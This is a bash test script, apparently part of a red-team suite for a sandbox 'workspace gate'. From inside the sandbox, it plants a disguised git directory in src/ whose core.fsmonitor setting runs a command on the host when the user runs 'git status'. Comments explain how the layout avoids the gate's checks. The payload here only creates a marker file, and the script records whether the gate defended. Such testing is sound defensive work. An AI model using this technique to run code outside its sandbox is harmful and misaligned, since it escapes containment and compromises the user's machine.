#!/bin/bash
# 01: turn an ordinary subfolder (src/) into a git directory the gate does not recognise:
# src/HEAD + src/commondir -> ../.cache/gd (which holds objects/ and refs/) + src/config.worktree
# (extensions.worktreeConfig makes git honour core.worktree despite commondir). No directory holds
# HEAD+objects+refs together and nothing is named .git. Host `git status` in src/ then runs core.fsmonitor.
SB=atk01
. "$(dirname "$0")/lib.sh"
mkrepo; up
MARK="$WS/MARK-01-fsmonitor"
ax bash -c '
set -e
cd /workspace
mkdir -p .cache/gd/objects .cache/gd/refs
printf "[core]\n\trepositoryformatversion = 1\n\tfsmonitor = \"touch MARK-01-fsmonitor; false\"\n[extensions]\n\tworktreeConfig = true\n" > .cache/gd/config
echo "ref: refs/heads/main" > src/HEAD
echo "../.cache/gd" > src/commondir
printf "[core]\n\tbare = false\n\tworktree = ..\n" > src/config.worktree
' || echo "  payload refused inside (the workspace gate)"
# host side: the user (or a git-aware shell prompt) runs git status in the subfolder
( cd "$WS/src" && timeout 30 git status >/dev/null 2>&1 )
( cd "$WS/src" && echo "host git sees git-dir: $(git rev-parse --absolute-git-dir 2>&1)" )
timeout 120 airlock review "$SB" 2>&1 | tail -3
[ -e "$MARK" ] && { echo "marker $MARK created by host git status"; succeeded; }
defended
